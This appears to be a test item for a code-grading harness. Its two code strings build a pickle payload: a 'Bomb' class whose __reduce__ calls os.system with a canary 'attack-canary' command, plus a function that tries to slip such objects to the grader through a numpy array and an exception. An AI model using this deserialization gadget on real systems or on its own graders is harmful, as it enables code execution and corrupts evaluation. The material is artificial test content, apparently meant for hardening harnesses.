"""Give back objects that run a command when a reader unpickles them.

class: write
expect: graded
"""

DOUBLE = """import os

import numpy as np

COMMAND = "echo attack-canary pickled_reduce > attack-canary-pickle; echo LOOT: unpickled"

class Bomb:
    def __reduce__(self):
        return os.system, (COMMAND,)

    def __deepcopy__(self, memo):
        return self

def double(n):
    return Bomb() if n == 1 else [np.array([Bomb()], dtype=object)]"""

NORM = """def norm(x):
    try:
        x[...] = 0
        x.dtype = object
        x.fill(Bomb())
    except Exception:
        pass
    raise ValueError(Bomb())"""
